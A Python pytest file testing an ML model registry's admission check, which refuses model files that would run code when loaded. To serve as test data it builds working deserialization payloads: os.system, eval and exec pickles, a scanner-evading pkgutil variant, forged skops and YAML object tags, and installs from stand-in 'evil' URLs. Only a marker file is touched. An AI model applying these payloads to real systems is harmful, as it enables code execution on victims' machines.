"""Admission: what runs when it is loaded is told by its bytes, whatever it is called, and is never loaded to find out."""

from __future__ import annotations

import base64
import bz2
import contextlib
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from importlib.util import MAGIC_NUMBER
from pathlib import Path
from typing import Any

import cloudpickle
import joblib
import numpy as np
import pytest
import skops.io
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace
from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler

from modelship.core.config import Registry
from modelship.core.errors import BadInput
from modelship.registry.admission.admit import MAX_FILES, admit
from modelship.registry.admission.pickles import is_pickle

REAL = Path(__file__).with_name("model_files")
"""Small models that the libraries themselves wrote."""

MLMODEL = """\
flavors:
  python_function:
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: mlflow.sklearn
    model_path: model.skops
    predict_fn: predict
  sklearn:
    code: null
    pickled_model: model.skops
    serialization_format: skops
mlflow_version: 3.17.2
"""
CONDA = "channels: [conda-forge]\ndependencies: [python=3.12.1, pip<=24, {pip: [scikit-learn==1.9.1]}]\nname: mlflow-env\n"
DROPPED = "dropped-by-payload"
RULES = Registry()
SMALL = replace(RULES, max_model_size="20MB")
DEFAULT_PROTOCOLS = range(pickle.HIGHEST_PROTOCOL + 1)


class Calls:
    """Pickles as a call of `function` with `arguments`."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.function, self.arguments


TOUCH = f"open({DROPPED!r}, 'w').close()"
EVIL = Calls(os.system, f"touch {DROPPED}")


def pickled(payload: object = EVIL, protocol: int | None = None) -> bytes:
    return pickle.dumps(payload, protocol)


def dumped_by_joblib(how: Any = 0) -> bytes:
    written = io.BytesIO()
    joblib.dump({"weights": np.arange(3.0), "evil": EVIL}, written, compress=how)
    return written.getvalue()


def saved_by_numpy(array: Any) -> bytes:
    written = io.BytesIO()
    np.save(written, array, allow_pickle=True)
    return written.getvalue()


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return written.getvalue()


def tarred() -> bytes:
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w") as archive:
        information = tarfile.TarInfo("model.pkl")
        information.size = len(pickled())
        archive.addfile(information, io.BytesIO(pickled()))
    return written.getvalue()


def fitted(estimator: Any) -> Any:
    return estimator.fit(np.arange(60.0).reshape(20, 3), np.arange(20) % 2)


def forged_skops(**node: Any) -> bytes:
    """A skops file whose only object is `node`."""
    return zipped({"schema.json": json.dumps({"protocol": 2, "_skops_version": "0.16.0", **node}).encode()})


def skops_with(name: str, content: bytes) -> bytes:
    plain = zipfile.ZipFile(io.BytesIO(skops.io.dumps(fitted(LogisticRegression()))))
    return zipped({**{one: plain.read(one) for one in plain.namelist()}, name: content})


def cleanly(function: Callable[[], bytes]) -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return function()


def call(function: str, argument: str) -> dict[str, Any]:
    """`functools.partial(function, argument)` as skops writes it."""
    module, _, name = function.rpartition(".")
    empty = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}}
    types = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []}
    text = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(argument), "is_json": True}
    return {
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "PartialNode",
        "content": {
            "func": {"__class__": name, "__module__": module, "__loader__": "FunctionNode"},
            "args": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [text]},
            "kwds": {**empty, "key_types": types},
            "namespace": {**empty, "key_types": types},
        },
    }


def resolved_by_pkgutil() -> bytes:
    """`pkgutil.resolve_name("os:system")("touch …")`, which scanners of names pass."""
    return f"cpkgutil\nresolve_name\n(S'os:system'\ntR(S'touch {DROPPED}'\ntR.".encode()


def keras_config() -> bytes:
    lambda_layer = base64.b64encode(marshal.dumps(compile(TOUCH, "x", "exec"))).decode()
    config = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": [lambda_layer]}}]}}
    return json.dumps(config).encode()


PICKLES: dict[str, Callable[[], bytes]] = {
    **{f"os.system in protocol {number}": partial(pickled, EVIL, number) for number in DEFAULT_PROTOCOLS},
    "eval": lambda: pickled(Calls(eval, TOUCH)),
    "exec in protocol 0": lambda: pickled(Calls(exec, TOUCH), 0),
    "pkgutil.resolve_name": resolved_by_pkgutil,
    "INST": lambda: f"(S'touch {DROPPED}'\nios\nsystem\n.".encode(),
    "OBJ": lambda: f"(cos\nsystem\nS'touch {DROPPED}'\no.".encode(),
    "one that breaks off after the call": lambda: pickled()[:-1],
    "one that breaks off, protocol 0": lambda: pickled(EVIL, 0)[:-1] + b"\xff",
    "another after the first": lambda: pickled(1, 2) + pickled(),
    "one that a zip archive follows": lambda: pickled() + zipped({"schema.json": b"{}"}),
    "a plain estimator": lambda: pickled(fitted(LogisticRegression())),
    "cloudpickle": lambda: bytes(cloudpickle.dumps(lambda rows: os.system(f"touch {DROPPED}"))),
    "joblib": dumped_by_joblib,
    **{f"joblib with {how}": partial(dumped_by_joblib, (how, 3)) for how in ("zlib", "gzip", "bz2", "xz", "lzma")},
    "gzip": lambda: gzip.compress(pickled()),
    "bzip2 of protocol 0": lambda: bz2.compress(pickled(EVIL, 0)),
    "xz": lambda: lzma.compress(pickled()),
    "zlib": lambda: zlib.compress(pickled()),
    "an array of objects": lambda: saved_by_numpy(np.array([EVIL], dtype=object)),
    "a structured array with objects": lambda: saved_by_numpy(np.array([(1, EVIL)], dtype=[("a", "i4"), ("b", "O")])),
    "an array of objects in an npz": lambda: zipped({"a.npy": saved_by_numpy(np.array([EVIL], dtype=object))}),
    "PyTorch's zip": lambda: zipped({"archive/data.pkl": pickled(), "archive/data/0": b"\0" * 8, "archive/version": b"3\n"}),
    "a compressed zip": lambda: zipped({"model": pickled(EVIL, 0)}, zipfile.ZIP_DEFLATED),
    "joblib in a zip": lambda: zipped({"model": dumped_by_joblib(("zlib", 3))}),
}

REFUSED: dict[str, Callable[[], bytes]] = {
    "a pickle in a skops file": lambda: skops_with("extra.npy", pickled()),
    "objects in a skops file": lambda: skops_with("1.npy", saved_by_numpy(np.array([EVIL], dtype=object))),
    "a zip in a skops file": lambda: skops_with("1.npz", zipped({"model.pkl": pickled()})),
    "raw pickle bytes in a skops file": lambda: skops_with("1.bin", pickled()),
    "a skops file with os.system": lambda: forged_skops(__class__="system", __module__="posix", __loader__="FunctionNode"),
    "a skops file with a partial of eval": lambda: forged_skops(**call("builtins.eval", TOUCH)),
    "a skops file with a method": lambda: forged_skops(
        __class__="method",
        __module__="builtins",
        __loader__="MethodNode",
        content={"func": "system", "obj": {"__class__": "str", "__module__": "os", "__loader__": "TypeNode"}},
    ),
    "a skops file with the team's own function": lambda: skops.io.dumps(fitted(make_pipeline(FunctionTransformer(os.path.join)))),
    "a skops file of a protocol to come": lambda: forged_skops(protocol=99, __class__="x", __module__="y", __loader__="ObjectNode"),
    "a skops file without a tree": lambda: zipped({"schema.json": b"[]"}),
    "a skops file nested too deeply": lambda: zipped({"schema.json": b"[" * 100_000 + b"]" * 100_000}),
    "a zip in a zip": lambda: zipped({"inner.zip": zipped({"model.pkl": pickled()})}),
    "a zip with something before it": lambda: b"tree\nversion=v4\n" + zipped({"schema.json": b"{}"}),
    "a zip with something after it": lambda: skops.io.dumps(fitted(LogisticRegression())) + pickled(),
    "a zip with a path that leads out": lambda: zipped({"../../evil.npy": saved_by_numpy(np.zeros(2))}),
    "a zip with a name twice": lambda: cleanly(lambda: _with_a_name_twice()),
    "a zip bomb": lambda: zipped({"a.npy": bytes(30_000_000)}, zipfile.ZIP_DEFLATED),
    "a truncated zip": lambda: zipped({"a.npy": saved_by_numpy(np.zeros(99))})[:-40],
    "a damaged zip": lambda: _with_a_wrong_byte(zipped({"a.npy": saved_by_numpy(np.zeros(99))}, zipfile.ZIP_DEFLATED)),
    "gzip of nothing known": lambda: gzip.compress(b"hello"),
    "gzip of gzip of a pickle": lambda: gzip.compress(gzip.compress(pickled())),
    "Zstandard": lambda: b"\x28\xb5\x2f\xfd" + bytes(20),
    "tar": tarred,
    "compiled Python": lambda: MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(TOUCH, "x", "exec")),
    "a library": lambda: b"\x7fELF\x02\x01\x01" + bytes(60),
    "a Windows library": lambda: b"MZ" + bytes(62),
    "a macOS library": lambda: b"\xcf\xfa\xed\xfe" + bytes(60),
    "HDF5": lambda: (REAL / "model.h5").read_bytes(),
    "ONNX with weights elsewhere": lambda: (REAL / "external.onnx").read_bytes(),
    "ONNX with operators of its own": lambda: (REAL / "custom.onnx").read_bytes(),
    "ONNX with a tail": lambda: (REAL / "model.onnx").read_bytes() + b"\x80\x04K",
    "safetensors with a tail": lambda: (REAL / "model.safetensors").read_bytes() + pickled(),
    "a header of safetensors that lies": lambda: struct.pack("<Q", 2**60) + b'{"a": 1}',
    "random bytes": lambda: bytes(range(7, 256)) * 3,
    "text that no model needs": lambda: b"#define X\n",
}


def _with_a_name_twice() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("a.npy", saved_by_numpy(np.zeros(2)))
        archive.writestr("a.npy", saved_by_numpy(np.ones(2)))
    return written.getvalue()


def _with_a_wrong_byte(content: bytes) -> bytes:
    return content[:50] + bytes([content[50] ^ 0xFF]) + content[51:]


@pytest.fixture
def model(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A model folder as MLflow writes it, in a working folder where a payload would leave its mark."""
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "MLmodel").write_text(MLMODEL)
    (folder / "conda.yaml").write_text(CONDA)
    (folder / "python_env.yaml").write_text("python: 3.12.1\nbuild_dependencies: [pip==24.0]\ndependencies: [-r requirements.txt]\n")
    (folder / "requirements.txt").write_text("mlflow-skinny==3.17.2\nscikit-learn==1.9.1\ncloudpickle==3.1.2\n")
    (folder / "input_example.json").write_text('{"columns": ["a"], "data": [[1.0]]}')
    (folder / "model.skops").write_bytes(skops.io.dumps(fitted(LogisticRegression())))
    return folder


def refusal(folder: Path, rules: Registry = RULES) -> str:
    """Why the folder was refused; nothing in it was run."""
    with pytest.raises(BadInput) as caught:
        admit(folder, rules)
    assert not Path(DROPPED).exists()
    assert all(problem.path and problem.message for problem in caught.value.problems)
    return str(caught.value)


def edited(folder: Path, old: str, new: str) -> Path:
    text = (folder / "MLmodel").read_text()
    assert old in text
    (folder / "MLmodel").write_text(text.replace(old, new))
    return folder


# What is let in --------------------------------------------------------------------------------------------------------------------


def test_a_model_as_mlflow_writes_it_is_let_in_file_by_file(model: Path) -> None:
    admitted = admit(model, RULES)
    assert {file.path: file.format for file in admitted} == {
        "MLmodel": "YAML",
        "conda.yaml": "environment",
        "input_example.json": "JSON",
        "model.skops": "skops",
        "python_env.yaml": "environment",
        "requirements.txt": "environment",
    }
    assert sum(file.bytes for file in admitted) == sum(path.stat().st_size for path in model.iterdir())


ESTIMATORS = {
    "scaled logistic regression": lambda: make_pipeline(StandardScaler(), LogisticRegression()),
    "forest": lambda: RandomForestClassifier(3, random_state=0),
    "boosting": lambda: GradientBoostingClassifier(n_estimators=2, random_state=0),
    "a function of NumPy": lambda: make_pipeline(FunctionTransformer(np.log1p), LogisticRegression()),
}


@pytest.mark.parametrize("make", ESTIMATORS.values(), ids=ESTIMATORS)
def test_estimators_of_scikit_learn_are_let_in_as_skops(model: Path, make: Callable[[], Any]) -> None:
    content = skops.io.dumps(fitted(make()), compression=zipfile.ZIP_DEFLATED)
    (model / "model.skops").write_bytes(content)
    assert ("model.skops", "skops") in {(file.path, file.format) for file in admit(model, RULES)}


NATIVE = {"model.cbm": "catboost", "model.json": "xgboost", "model.ubj": "xgboost", "model.lgb": "lightgbm"}


@pytest.mark.parametrize(("name", "format_"), [*NATIVE.items(), ("model.onnx", "onnx"), ("model.safetensors", "safetensors")])
def test_a_model_that_its_library_wrote_is_known_by_its_content(model: Path, name: str, format_: str) -> None:
    called = name if name.endswith(".json") else "weights"  # Only text needs a name that says what it is.
    (model / called).write_bytes((REAL / name).read_bytes())
    assert (called, format_) in {(file.path, file.format) for file in admit(model, RULES)}
    others = tuple(one for one in RULES.formats if one != format_)
    assert f"{called}: is in the format {format_}" in refusal(model, replace(RULES, formats=others))


@pytest.mark.parametrize(
    "array", [np.zeros((2, 3)), np.array(["a", "bc"]), np.array(["2013-01-01"], dtype="M8[D]"), np.zeros(2, "i4,f8")]
)
def test_arrays_of_plain_values_are_data(model: Path, array: Any) -> None:
    (model / "array.npy").write_bytes(saved_by_numpy(array))
    (model / "arrays.npz").write_bytes(zipped({"a.npy": saved_by_numpy(array)}))
    assert [file.format for file in admit(model, RULES) if file.path.startswith("array")] == ["numpy", "numpy"]


# What runs -------------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("make", PICKLES.values(), ids=PICKLES)
def test_a_pickle_is_found_whatever_it_is_called_and_needs_a_word(model: Path, make: Callable[[], bytes]) -> None:
    content = make()
    for name in ("model.skops", "notes.txt", "weights"):
        (model / name).write_bytes(content)
        said = refusal(model)
        assert name in said
        assert "registry.allow-pickle" in said
        assert "pickle" in [file.format for file in admit(model, replace(RULES, allow_pickle=True)) if file.path == name]
        assert not Path(DROPPED).exists()


def test_the_payloads_would_have_run(model: Path) -> None:
    pickle.loads(PICKLES["pkgutil.resolve_name"]())
    assert Path(DROPPED).exists()


@pytest.mark.parametrize("make", REFUSED.values(), ids=REFUSED)
@pytest.mark.parametrize("rules", [SMALL, replace(SMALL, allow_pickle=True, allow_code=True)], ids=["strict", "open"])
def test_what_nothing_explains_is_refused_by_any_rules(model: Path, make: Callable[[], bytes], rules: Registry) -> None:
    (model / "weights").write_bytes(make())
    assert "weights: " in refusal(model, rules)


def test_a_type_that_nobody_has_reviewed_is_let_in_once_it_is_listed(model: Path) -> None:
    (model / "model.skops").write_bytes(
        skops.io.dumps(fitted(make_pipeline(FunctionTransformer(np.nan_to_num), LogisticRegression())))
    )
    said = refusal(model)
    assert "registry.trusted-types" in said
    unknown = said.partition("reviewed: `")[2].partition("`")[0]
    assert unknown.endswith("nan_to_num")
    assert admit(model, replace(RULES, trusted_types=(unknown,)))


TEXTS = {
    "script.py": TOUCH,
    "run": f"#!/bin/sh\ntouch {DROPPED}\n",
    "notebook.ipynb": "{}",
    "code/loader.py": "def _load_pyfunc(path): ...",
    "requirements.txt": "--index-url http://example.com/simple\nscikit-learn\n",
    "constraints.txt": "-e .\n",
    "conda.yaml": "name: x\ndependencies: [python, {pip: ['evil @ https://example.com/evil.zip']}]\n",
    "python_env.yaml": "python: 3.12.1\ndependencies: ['git+https://example.com/evil']\n",
}


@pytest.mark.parametrize(
    ("name", "text"), [*TEXTS.items(), ("requirements.txt", "./evil\n"), ("conda.yaml", "variables: {LD_PRELOAD: x}")]
)
def test_code_needs_a_word(model: Path, name: str, text: str) -> None:
    (model / name).parent.mkdir(exist_ok=True)
    (model / name).write_text(text)
    said = refusal(model)
    assert name in said
    assert "registry.allow-code" in said
    assert admit(model, replace(RULES, allow_code=True))


@pytest.mark.parametrize(
    "text",
    [
        "a: !!python/object/apply:os.system ['touch dropped-by-payload']",
        "a: !!python/name:os.system",
        "!!python/object/new:os.system [touch dropped-by-payload]",
        "a: !custom {b: 1}",
        "a: [1, 2",
        "a: 1\n---\nb: 2",
    ],
)
@pytest.mark.parametrize("name", ["MLmodel", "conda.yaml", "settings.yml"])
def test_yaml_that_asks_for_objects_is_refused(model: Path, name: str, text: str) -> None:
    (model / name).write_text(text + "\n")
    assert f"{name}: " in refusal(model)


def test_a_keras_config_may_hold_code(model: Path) -> None:
    (model / "model.json").write_bytes(keras_config())
    assert "Keras" in refusal(model, replace(RULES, allow_pickle=True, allow_code=True))


# MLmodel ---------------------------------------------------------------------------------------------------------------------------

CODE = {
    "loader_module: mlflow.sklearn": "loader_module: loader",
    "predict_fn: predict": "predict_fn: __reduce_ex__",
    "code: null": "code: code",
    "  sklearn:": "  sklearn: {code: code}\n  keras:",
    "model_path: model.skops": "model_path: model.skops\n    python_model: model.skops",
    "pickled_model": "model_code_path: model.skops\n    pickled_model",
    "mlflow_version": "  xgboost: {data: model.skops, model_class: os.abort}\nmlflow_version",
    "mlflow_version: 3": "  lightgbm: {data: model.skops, lgb_class: antigravity.x}\nmlflow_version: 3",
    "mlflow_version: 3.17": "  onnx: {data: model.skops, providers: [[TensorrtExecutionProvider, {a: /x.so}]]}\nmlflow_version: 3.17",
}


@pytest.mark.parametrize(("old", "new"), CODE.items())
def test_an_mlmodel_that_runs_something_needs_a_word(model: Path, old: str, new: str) -> None:
    said = refusal(edited(model, old, new))
    assert "MLmodel: " in said
    assert "registry.allow-code" in said
    assert admit(model, replace(RULES, allow_code=True))


@pytest.mark.parametrize("path", ["../other/model.skops", "/etc/passwd", "absent.skops", "[1, 2]", "models:/x/1"])
@pytest.mark.parametrize("key", ["model_path", "pickled_model"])
def test_an_mlmodel_that_points_elsewhere_is_refused(model: Path, key: str, path: str) -> None:
    edited(model, f"{key}: model.skops", f"{key}: {path}")
    assert "no file of the model" in refusal(model, replace(RULES, allow_code=True))


@pytest.mark.parametrize("text", ["", "[]", "flavors: {}", "flavors: {sklearn: 1}", "flavors: 1"])
def test_an_mlmodel_without_flavors_is_refused(model: Path, text: str) -> None:
    (model / "MLmodel").write_text(text)
    assert "names no flavors" in refusal(model)


# The folder ------------------------------------------------------------------------------------------------------------------------


def test_links_and_special_files_are_refused(model: Path) -> None:
    (model / "link").symlink_to(model / "model.skops")
    assert "link: is a link" in refusal(model)
    (model / "link").unlink()
    os.mkfifo(model / "pipe")
    assert "pipe: is a special file" in refusal(model)
    (model / "pipe").unlink()
    (model / "folder").symlink_to("/etc")
    assert "folder: is a link" in refusal(model)


def test_a_folder_that_is_no_model_is_refused(model: Path, tmp_path: Path) -> None:
    (tmp_path / "alias").symlink_to(model)
    assert "is no folder" in refusal(tmp_path / "alias")
    assert "is no folder" in refusal(tmp_path / "absent")
    (model / "model.skops").unlink()
    edited(model, "model.skops", "input_example.json")
    assert "holds no model" in refusal(model)
    (model / "MLmodel").unlink()
    assert "no `MLmodel`" in refusal(model)


def test_too_much_is_refused(model: Path) -> None:
    size = sum(path.stat().st_size for path in model.iterdir())
    assert admit(model, replace(RULES, max_model_size=f"{size}B"))
    assert "max-model-size" in refusal(model, replace(RULES, max_model_size=f"{size - 1}B"))
    for number in range(MAX_FILES):
        (model / f"{number}.txt").touch()
    assert f"more than {MAX_FILES:,} files" in refusal(model)


def test_every_bad_file_is_told_at_once(model: Path) -> None:
    for number in range(30):
        (model / f"{number}.pkl").write_bytes(pickled())
    said = refusal(model)
    assert "0.pkl" in said
    assert "10 other reasons not shown" in said


def test_a_name_that_hides_something_is_refused(model: Path) -> None:
    (model / "model\u202egpj.exe").write_bytes(b"x")
    said = refusal(model)
    assert "cannot be shown" in said
    assert "\u202e" not in said


# Pickles by their opcodes ----------------------------------------------------------------------------------------------------------


OPCODES = ["cos\nsystem\n", "ios\nsystem\n", "c x\ny\n", "S'x'\n", "I1\n", *"(t)]}oRbsau012N.", " ", "x"]


@given(st.lists(st.sampled_from(OPCODES), max_size=12).map("".join))
def test_whatever_pickle_calls_is_told(program: str) -> None:
    called: list[str] = []

    class Watching(pickle.Unpickler):
        def find_class(self, module: str, name: str) -> Any:
            if not module.isidentifier():
                raise ImportError(module)
            return lambda *_: called.append(name)

    with contextlib.suppress(Exception):
        Watching(io.BytesIO(program.encode())).load()
    assert is_pickle(program.encode()) or not called


@pytest.mark.parametrize(
    "text",
    [
        "",
        "README of the model",
        "scikit-learn==1.9.1\ncloudpickle==3.1.2\n",
        "import os\nprint(1)\n",
        "channels:\n- conda-forge\n",
        "I think.\nSo.\n",
        "(see below)\n.",
        "Python is used to train this.\nRun it. o b R.\n",
    ],
)
def test_text_that_only_starts_like_a_pickle_is_none(text: str) -> None:
    assert not is_pickle(text.encode())
